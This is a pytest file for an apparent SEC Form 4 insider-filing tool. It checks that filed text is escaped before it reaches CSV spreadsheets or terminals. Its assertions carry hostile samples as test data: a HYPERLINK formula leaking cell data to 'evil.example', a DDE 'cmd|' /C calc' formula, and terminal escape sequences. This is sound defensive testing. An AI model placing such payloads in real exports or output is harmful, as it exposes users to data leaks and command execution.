"""Filed text never reaches a spreadsheet as a formula nor a
terminal as a control sequence (insider/sanitize.py holds the rules).

The hostile filing fixtures/hostile/formula-and-controls-form4.xml was written by hand; the
expected cells below are read from it: owner `=HYPERLINK(...)`, ticker `=1+2`, title
`+SUM(1,1)*cmd|' /C calc'!A0`, nature `@SUM(1,1)`, footnote F1 `-2+3 sold under <CSI>2J ...`,
owned after -14804 (a number), C1 controls U+009B / U+009D / U+009C in names and texts.
A second copy is stored under an accession holding ESC sequences, as a database written
before accessions were validated could hold one.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from conftest import FIXTURES
from test_cli_skeleton import run_in_process as run

from insider import sanitize, store
from insider.parse import parse_ownership

HOSTILE = FIXTURES / "hostile" / "formula-and-controls-form4.xml"
ESC_ACC = "\x1b]0;PWNED\x07\x1b[2J"
OWNER = "0009999152"
ISSUER = "0009999151"
# Anything a terminal would act on: C0 except \t \n, DEL, C1.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "insider.db"
    db = store.connect(path)
    raw = HOSTILE.read_bytes()
    filing = parse_ownership(raw, source="hostile")
    for acc, day in (("0009999152-24-000001", "2024-03-02"), (ESC_ACC, "2024-03-03")):
        store.save_filing(db, filing, store.FilingMeta(acc, day, None, "file://h.xml"), raw)
    db.conn.close()
    return path


def ok(*args: str):
    r = run(*args)
    assert r.returncode == 0, r.stderr
    return r


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# -- item 1: spreadsheets --------------------------------------------------------------------
@pytest.mark.parametrize("flag", ["--csv-records", "--csv"])  # records, and rows
def test_show_csv_neutralises_formulas_but_not_numbers(hostile_db: Path, flag: str):
    rows = csv_rows(ok("show", OWNER, flag, "--db", str(hostile_db)).stdout)
    row = next(r for r in rows if r.get("record", "row") == "row")
    assert row["owner_name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    assert row["issuer_ticker"] == "'=1+2"
    assert row["security_title"] == "'+SUM(1,1)*cmd|' /C calc'!A0"
    assert row["nature_of_ownership"] == "'@SUM(1,1)"
    # Numbers stay numbers, even negative ones; text that merely contains a formula
    # character later on is left alone.
    assert row["shares_owned_following"] == "-14804"
    assert row["shares"] == "100"
    assert row["price_per_share"] == "10.5"  # stored without trailing zeros
    assert row["footnotes"].startswith("shares[F1]: -2+3 sold under")
    # No cell of the whole output starts with a formula character, numbers aside.
    numeric = {"shares_owned_following", "expected_owned", "shares", "value"}
    for r in rows:
        for k, v in r.items():
            if k not in numeric:
                assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (k, v)


@pytest.mark.parametrize("flag", ["--csv-records", "--csv"])  # records, and rows
def test_company_csv_neutralises_formulas(hostile_db: Path, flag: str):
    rows = csv_rows(ok("company", ISSUER, flag, "--db", str(hostile_db)).stdout)
    tx = [r for r in rows if r.get("record", "transaction") == "transaction"]
    assert tx, rows
    assert {r["owner_name"] for r in tx} == {
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    }
    assert {r["issuer_ticker"] for r in rows} == {"'=1+2"}
    assert {r["security_title"] for r in tx} == {"'+SUM(1,1)*cmd|' /C calc'!A0"}
    assert {r["nature_of_ownership"] for r in tx} == {"'@SUM(1,1)"}
    assert {r["shares_owned_following"] for r in tx} == {"-14804"}


# -- item 4: terminals -----------------------------------------------------------------------
@pytest.mark.parametrize("command,target", [("show", OWNER), ("company", ISSUER)])
def test_tables_escape_controls(hostile_db: Path, command: str, target: str):
    out = ok(command, target, "--db", str(hostile_db)).stdout
    assert not RAW_CONTROL.search(out), repr(RAW_CONTROL.search(out))
    # Shown, visibly, not dropped: the reader sees that the filing holds controls.
    assert "\\x1b]0;PWNED\\x07\\x1b[2J" in out  # the Filing column
    assert "HOSTILE \\x9b31mHOLDINGS INC" in out


def test_show_footnotes_and_titles_escaped(hostile_db: Path):
    out = ok("show", OWNER, "--db", str(hostile_db)).stdout
    assert "\\x9d0;PWNED\\x9cChief Officer" in out
    assert "-2+3 sold under \\x9b2J a plan \\x9d8;;http://evil.example\\x9clink" in out


@pytest.mark.parametrize("command,target", [("show", OWNER), ("company", ISSUER)])
def test_json_escapes_c1_and_keeps_values(hostile_db: Path, command: str, target: str):
    out = ok(command, target, "--json", "--db", str(hostile_db)).stdout
    assert not RAW_CONTROL.search(out)
    assert "\\u009b" in out and "\\u001b" in out
    values = set(strings(json.loads(out)))  # decoded values are the filed ones
    assert ESC_ACC in values and "HOSTILE \x9b31mHOLDINGS INC" in values


def strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for v in obj.values():
            yield from strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from strings(v)


def test_parse_text_and_json_escape_controls():
    out = ok("parse", str(HOSTILE)).stdout
    assert not RAW_CONTROL.search(out)
    assert "Remarks: \\x9b1;31mRemarks in red\\x9b0m" in out
    out = ok("parse", str(HOSTILE), "--json").stdout
    assert not RAW_CONTROL.search(out)
    assert json.loads(out)["remarks"] == "\x9b1;31mRemarks in red\x9b0m"


def test_error_line_escapes_controls_and_newlines(tmp_path: Path):
    # A file name is the user's, but the same line carries filed and server text: one rule.
    bad = tmp_path / "a\x1b[2Jb\nfake line.xml"
    bad.write_bytes(b"<html>not an ownership document</html>")
    r = run("parse", str(bad))
    assert r.returncode == 1
    assert not RAW_CONTROL.search(r.stderr)
    assert r.stderr.count("\n") == 1, r.stderr
    assert "a\\x1b[2Jb" in r.stderr


# -- the rules themselves --------------------------------------------------------------------
def test_terminal_rules():
    assert sanitize.terminal("a\x1b[31mb\x07\x9b\x9d\x7f\u202ec\td\ne") == (
        "a\\x1b[31mb\\x07\\x9b\\x9d\\x7f\\u202ec\td\ne"
    )
    assert sanitize.terminal_line("one\ntwo\r\tthree") == "one\\ntwo\\r\\tthree"
    # Undecodable argument bytes (surrogateescape) are shown as the bytes they were.
    assert sanitize.terminal_line(b"caf\xe9".decode("utf-8", "surrogateescape")) == "caf\\xe9"
    assert sanitize.terminal("Müller & Söhne — 株式会社") == "Müller & Söhne — 株式会社"
    data = sanitize.terminal_data({"k\x1b": ["x\x9b", 3, None], "n": {"m": "\x9d"}})
    assert data == {"k\\x1b": ["x\\x9b", 3, None], "n": {"m": "\\x9d"}}


def test_json_rule_keeps_documents_valid():
    value = {"name": "a\x1b\x9b\x9d\x7f\u202e\u2066 é", "lone": "\udce9"}
    out = sanitize.json_text(json.dumps(value, ensure_ascii=False))
    assert not RAW_CONTROL.search(out) and "\u202e" not in out
    assert "é" in out  # ordinary non-ASCII stays readable
    assert json.loads(out) == value
    out.encode("utf-8")  # printable: no lone surrogate left


def test_spreadsheet_rule():
    for text in ("=1+2", "+SUM(1)", "-2+3", "@SUM(1)", "\tx", "\rx"):
        assert sanitize.spreadsheet_text(text) == "'" + text
    for text in ("HERZOG", "", "a=b", "'=already"):
        assert sanitize.spreadsheet_text(text) == text


def test_sync_failure_line_escapes_what_the_server_sent(tmp_path: Path, edgar_server):
    from edgar_server import IssuerSpec, build_mirror

    m = build_mirror([IssuerSpec(1000001, "ACME", n=2, other_forms=())])
    key = "submissions/CIK0001000001.json"
    sub = json.loads(m.files[key])
    sub["filings"]["recent"]["primaryDocument"][0] = "form4\x1b]0;PWNED\x07\x1b[2J.xml"
    m.files[key] = json.dumps(sub).encode()
    srv = edgar_server(m)
    r = run("sync", "ACME", "--edgar", srv.url, "--db", str(tmp_path / "i.db"), "--quiet")
    assert r.returncode == 1
    assert "1 new filings" in r.stderr
    assert not RAW_CONTROL.search(r.stderr), r.stderr
    assert "\\x1b]0;PWNED\\x07\\x1b[2J" in r.stderr
